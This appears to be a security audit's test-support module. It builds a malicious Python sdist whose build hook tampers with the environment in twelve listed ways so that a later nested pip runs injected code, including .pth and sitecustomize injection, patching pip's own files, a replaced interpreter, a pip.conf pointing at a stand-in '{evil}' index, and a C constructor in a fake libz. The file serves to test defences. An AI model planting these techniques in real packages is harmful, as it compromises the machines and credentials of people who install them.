"""Twelve ways for the build code of a package to change what the next nested pip of the same run loads (audit 1)."""

from __future__ import annotations

import subprocess
from collections.abc import Mapping
from pathlib import Path
from typing import NamedTuple

from support.leaks import thief
from support.samples import packages


class Way(NamedTuple):
    """change: what the hook does, in Python. environ: what the user has set. is_run: the thief's code must have run."""

    change: str
    environ: Mapping[str, str] = {}
    is_run: bool = True


WAYS = {
    "a .pth file": Way("write(SITE + '/zz.pth', 'import sys; exec(%r, {})\\n' % THIEF)"),
    "usercustomize": Way("write(HOME + '/.local/lib/python%d.%d/site-packages/usercustomize.py' % VERSION, THIEF)"),
    "pip's own main": Way("append(SITE + '/pip/_internal/cli/main.py', THIEF)"),
    "the interpreter": Way(
        "write(VENV + '/bin/python', '#!/usr/bin/python3\\n' + THIEF + 'os.execv(%r, [%r, *sys.argv[1:]])\\n'"
        " % (os.path.realpath(sys.executable), VENV + '/bin/python')); os.chmod(VENV + '/bin/python', 0o755)"
    ),
    "home in pyvenv.cfg": Way("write(VENV + '/pyvenv.cfg', 'home = %s/bin\\n' % other_home())"),
    "authpip's own code": Way("append(SITE + '/authpip/inside_pip/frames.py', THIEF)"),
    "PYTHONPATH": Way("write(MINE + '/sitecustomize.py', THIEF)", {"PYTHONPATH": "{mine}"}),
    "pip.conf": Way("write(VENV + '/pip.conf', '[global]\\nproxy = {evil}\\nextra-index-url = {evil}/simple/\\n')"),
    "a keyring module": Way(
        "write(SITE + '/keyring.py', THIEF + 'get_credential = get_password = lambda *_: None\\n')",
        {"PIP_KEYRING_PROVIDER": "import"},
    ),
    "truststore": Way("append(SITE + '/pip/_vendor/truststore/__init__.py', THIEF)"),
    "a shared library": Way(
        "os.rename(MINE + '/libz', MINE + '/libz.so.1'); write(MINE + '/py/sitecustomize.py', THIEF)",
        {"LD_LIBRARY_PATH": "{mine}"},
    ),
    "pip's runner": Way("before(SITE + '/pip/__pip-runner__.py', THIEF)"),
}
WAYS["pip.conf"] = WAYS["pip.conf"]._replace(is_run=False)
WAYS["a keyring module"] = WAYS["a keyring module"]._replace(is_run=False)

BACKEND = """
import os, shutil, sys
from backend_settings import CHANGE, HOME, MINE, SITE, THIEF, VENV
from spy_backend import *

VERSION = sys.version_info[:2]


def write(path, text):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    if os.path.lexists(path):
        os.unlink(path)
    with open(path, "w") as file:
        file.write(text)


def read(path):
    with open(path) as file:
        return file.read()


def append(path, text):
    write(path, read(path) + "\\n" + text)


def before(path, text):
    write(path, text + "\\n" + read(path))


def other_home():
    home, library = MINE + "/python", os.path.dirname(os.__file__)
    mine = home + "/lib/" + os.path.basename(library)
    os.makedirs(mine)
    os.makedirs(home + "/bin")
    os.symlink(os.path.realpath(sys.executable), home + "/bin/python3")
    for name in os.listdir(library):
        if name != "json":
            os.symlink(os.path.join(library, name), os.path.join(mine, name))
    shutil.copytree(library + "/json", mine + "/json", ignore=shutil.ignore_patterns("__pycache__"))
    append(mine + "/json/__init__.py", THIEF)
    return home


def get_requires_for_build_wheel(config_settings=None):
    exec(CHANGE)
    return LATE
"""
LIBRARY = """
#include <stdlib.h>
__attribute__((constructor)) static void enter(void) { setenv("PYTHONPATH", "%s/py", 1); }
"""


def sdist(directory: Path, way: Way, report: Path, *, venv: Path, site: Path, home: Path, mine: Path, evil: str) -> Path:
    """The package `evil-thing`, whose first hook makes the change and then asks for one more requirement."""
    files = packages.spy_files("evil-thing", report.with_suffix(".spy"), late=["late-dep"])
    settings = {
        "CHANGE": way.change.replace("{evil}", evil),
        "HOME": str(home),
        "MINE": str(mine),
        "SITE": str(site),
        "THIEF": thief.code(str(report), "nested pip"),
        "VENV": str(venv),
    }
    files["backend_settings.py"] = "".join(f"{key} = {value!r}\n" for key, value in settings.items())
    files["evil_backend.py"] = BACKEND
    files["pyproject.toml"] = files["pyproject.toml"].replace("spy_backend", "evil_backend")
    return packages.sdist(directory, "evil-thing", files=files)


def compile_library(directory: Path) -> None:
    """A libz that puts a directory on PYTHONPATH as soon as it is loaded, and is the real one for the rest."""
    source = directory / "enter.c"
    source.write_text(LIBRARY % directory)
    real = next(Path("/").glob("usr/lib/*/libz.so.1"), Path("/usr/lib/libz.so.1"))
    linked = ["-Wl,--no-as-needed", str(real), "-Wl,-soname,libz.so.1"]
    subprocess.run(["cc", "-shared", "-fPIC", "-o", str(directory / "libz"), str(source), *linked], check=True)
